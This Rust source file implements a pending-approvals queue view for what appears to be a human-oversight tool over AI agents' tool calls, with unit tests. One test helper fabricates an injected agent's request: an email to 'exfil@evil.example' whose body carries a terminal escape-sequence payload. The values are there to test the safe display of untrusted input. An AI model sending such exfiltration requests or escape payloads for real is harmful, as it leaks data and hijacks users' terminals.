//! Approvals queue state: the pending requests in expiry order (the next to expire first), the
//! `/` filter and the selector, marks and the cursor. Pure.
//!
//! The selector is the approval selector the CLI's `approve|reject --where` takes (the fleet's
//! syntax over the request's fields and its session's: `tool=send_email,risk=high`).

use crate::model::approval::{Approval, ApprovalStatus};
use crate::model::approval_selector::ApprovalSelector;
use crate::model::session::Session;
use crate::model::time::Timestamp;
use std::collections::BTreeSet;

/// The last steps of a session, or why they could not be read.
pub type ContextLines = Result<Vec<String>, String>;

#[derive(Clone, Debug, PartialEq, Default)]
pub struct ApprovalsView {
    /// Every pending request, in expiry order (then id).
    pub items: Vec<Approval>,
    /// The requests that pass the filters (indices into `items`), in the same order.
    pub visible: Vec<usize>,
    /// Position in `visible`.
    pub selected: usize,
    pub offset: usize,
    /// Marked request ids: a decision takes them all, with one reason.
    pub marked: BTreeSet<String>,
    pub filter: String,
    pub selector: Option<ApprovalSelector>,
    /// The last steps of the selected approval's session: (session id, lines).
    pub context: Option<(String, Option<ContextLines>)>,
}

fn haystack(a: &Approval) -> String {
    format!("{} {} {} {} {}", a.id, a.session_id, a.tool.shown_line(), a.risk, a.arguments.shown_line()).to_lowercase()
}

impl ApprovalsView {
    pub fn selected_item(&self) -> Option<&Approval> {
        self.visible.get(self.selected).and_then(|&i| self.items.get(i))
    }

    pub fn visible_item(&self, position: usize) -> Option<&Approval> {
        self.visible.get(position).and_then(|&i| self.items.get(i))
    }

    /// Replaces the requests, keeping the cursor on the same request when it is still there.
    /// `session` finds a request's session for the selector.
    pub fn set_items<'a>(
        &mut self,
        mut items: Vec<Approval>,
        session: impl Fn(&str) -> Option<&'a Session>,
        now: Timestamp,
    ) {
        items.sort_by(|a, b| a.expires_at.cmp(&b.expires_at).then_with(|| a.id.cmp(&b.id)));
        self.items = items;
        let live: BTreeSet<&str> = self.items.iter().map(|a| a.id.as_str()).collect();
        self.marked.retain(|id| live.contains(id.as_str()));
        self.refilter(session, now);
    }

    /// Applies the filter and the selector, keeping the cursor on the same request.
    pub fn refilter<'a>(&mut self, session: impl Fn(&str) -> Option<&'a Session>, now: Timestamp) {
        let keep = self.selected_item().map(|a| a.id.clone());
        let needle = self.filter.to_lowercase();
        let sel = self.selector.as_ref();
        self.visible = self
            .items
            .iter()
            .enumerate()
            .filter(|(_, a)| needle.is_empty() || haystack(a).contains(&needle))
            .filter(|(_, a)| sel.is_none_or(|s| s.matches(a, session(&a.session_id), now)))
            .map(|(i, _)| i)
            .collect();
        let at = keep.and_then(|id| self.visible.iter().position(|&i| self.items.get(i).is_some_and(|a| a.id == id)));
        self.selected = at.unwrap_or(self.selected).min(self.visible.len().saturating_sub(1));
    }

    pub fn toggle_mark(&mut self) {
        if let Some(id) = self.selected_item().map(|a| a.id.clone()) {
            if !self.marked.remove(&id) {
                self.marked.insert(id);
            }
        }
    }

    /// Marks every visible request that can still be decided (not expired, readable); returns
    /// how many are marked now.
    pub fn mark_all_visible(&mut self, now: Timestamp) -> usize {
        let ids: Vec<String> = self
            .visible
            .iter()
            .filter_map(|&i| self.items.get(i))
            .filter(|a| a.unreadable.is_none() && a.status_at(now) == ApprovalStatus::Pending)
            .map(|a| a.id.clone())
            .collect();
        self.marked.extend(ids);
        self.marked.len()
    }

    /// Requests still waiting for a decision at `now`: expired ones are not pending; an
    /// unreadable one, whose expiry is unknown, is counted.
    pub fn pending_at(&self, now: Timestamp) -> usize {
        self.items.iter().filter(|a| a.unreadable.is_some() || a.status_at(now) == ApprovalStatus::Pending).count()
    }

    /// The pending requests of one session, next to expire first.
    pub fn of_session(&self, session_id: &str, now: Timestamp) -> Vec<&Approval> {
        self.items
            .iter()
            .filter(|a| a.session_id == session_id && a.unreadable.is_none())
            .filter(|a| a.status_at(now) == ApprovalStatus::Pending)
            .collect()
    }

    /// Takes decided requests out of the queue (they are no longer pending).
    pub fn remove(&mut self, ids: &[&str]) {
        let gone = |a: &Approval| ids.contains(&a.id.as_str());
        let mut kept = 0;
        let new_index: Vec<Option<usize>> = self
            .items
            .iter()
            .map(|a| {
                (!gone(a)).then(|| {
                    kept += 1;
                    kept - 1
                })
            })
            .collect();
        self.visible = self.visible.iter().filter_map(|&i| new_index.get(i).copied().flatten()).collect();
        self.items.retain(|a| !gone(a));
        for id in ids {
            self.marked.remove(*id);
        }
        self.selected = self.selected.min(self.visible.len().saturating_sub(1));
    }
}

/// A pending request for tests: `tool` asked for by `session`, expiring `expires_in` seconds
/// after `now`, with arguments an injected agent would send.
#[cfg(test)]
pub(crate) fn pending_request(id: &str, session: &str, tool: &str, expires_in: i64, now: Timestamp) -> Approval {
    use crate::model::untrusted::UntrustedJson;
    let mut a = crate::model::approval::pending_for_test(id, tool, crate::model::approval::Risk::High);
    a.session_id = session.into();
    a.step = 3;
    a.arguments = UntrustedJson::new(serde_json::json!({"to": "exfil@evil.example", "body": "\u{1b}]0;PWNED\u{7}"}));
    a.requested_at = now;
    a.expires_at = now + chrono::Duration::seconds(expires_in);
    a
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::time;
    use crate::model::untrusted::UntrustedJson;

    fn request(id: &str, session: &str, tool: &str, expires_in: i64) -> Approval {
        let mut a = pending_request(id, session, tool, expires_in, time::now());
        a.arguments = UntrustedJson::new(serde_json::json!({"to": format!("{id}@example.com")}));
        a
    }

    fn queue() -> (ApprovalsView, Vec<Session>) {
        let now = time::now();
        let mut browser = Session::new("s-browser", "browser-agent", now);
        browser.namespace = Some("prod".into());
        let mut crm = Session::new("s-crm", "crm-agent", now);
        crm.namespace = Some("staging".into());
        let sessions = vec![browser, crm];
        let mut q = ApprovalsView::default();
        let items = vec![
            request("a-late", "s-browser", "send_email", 600),
            request("a-soon", "s-crm", "update_record", 30),
            request("a-mid", "s-browser", "send_email", 120),
            request("a-gone", "s-crm", "send_email", -5),
        ];
        let find = |id: &str| sessions.iter().find(|s| s.id == id);
        q.set_items(items, find, now);
        (q, sessions)
    }

    fn ids(q: &ApprovalsView) -> Vec<&str> {
        (0..q.visible.len()).filter_map(|p| q.visible_item(p)).map(|a| a.id.as_str()).collect()
    }

    #[test]
    fn the_queue_is_in_expiry_order_and_expired_requests_are_not_pending() {
        let (q, _) = queue();
        assert_eq!(ids(&q), ["a-gone", "a-soon", "a-mid", "a-late"]);
        assert_eq!(q.pending_at(time::now()), 3, "the expired request is not counted");
        let of: Vec<&str> = q.of_session("s-browser", time::now()).iter().map(|a| a.id.as_str()).collect();
        assert_eq!(of, ["a-mid", "a-late"]);
        assert!(q.of_session("s-crm", time::now()).iter().all(|a| a.id != "a-gone"));
    }

    #[test]
    fn filter_and_selector_choose_requests_and_the_cursor_stays_on_its_request() {
        let (mut q, sessions) = queue();
        let now = time::now();
        let find = |id: &str| sessions.iter().find(|s| s.id == id);
        q.selected = 2; // a-mid
        q.filter = "A-MID@".into();
        q.refilter(find, now);
        assert_eq!(ids(&q), ["a-mid"], "the filter searches the arguments too");
        assert_eq!(q.selected_item().map(|a| a.id.as_str()), Some("a-mid"));
        q.filter.clear();
        q.selector = Some(ApprovalSelector::parse("tool=send_email,namespace=prod").unwrap());
        q.refilter(find, now);
        assert_eq!(ids(&q), ["a-mid", "a-late"], "tool is the requested tool; namespace the session's");
        q.selector = Some(ApprovalSelector::parse("agent=crm-agent").unwrap());
        q.refilter(find, now);
        assert_eq!(ids(&q), ["a-gone", "a-soon"]);
        q.selector = Some(ApprovalSelector::parse("risk=high,session!=s-crm").unwrap());
        q.refilter(find, now);
        assert_eq!(ids(&q), ["a-mid", "a-late"], "the request's own fields: risk, session");
        assert!(ApprovalSelector::parse("risk=hihg").is_err(), "a closed value's typo is refused");
    }

    #[test]
    fn marks_take_one_or_every_visible_decidable_request() {
        let (mut q, _) = queue();
        let now = time::now();
        q.toggle_mark();
        assert!(q.marked.contains("a-gone"));
        q.toggle_mark();
        assert!(q.marked.is_empty());
        assert_eq!(q.mark_all_visible(now), 3, "the expired request cannot be decided, so it is not marked");
        assert!(!q.marked.contains("a-gone"));
        q.remove(&["a-soon", "a-late"]);
        assert_eq!(ids(&q), ["a-gone", "a-mid"]);
        assert_eq!(q.marked.iter().map(String::as_str).collect::<Vec<_>>(), ["a-mid"]);
        // A refresh drops marks of requests that are gone.
        let mid = q.items.iter().find(|a| a.id == "a-mid").cloned().into_iter().collect();
        q.set_items(mid, |_| None, now);
        assert_eq!(q.marked.len(), 1);
        q.set_items(Vec::new(), |_| None, now);
        assert!(q.marked.is_empty() && q.selected_item().is_none());
    }
}
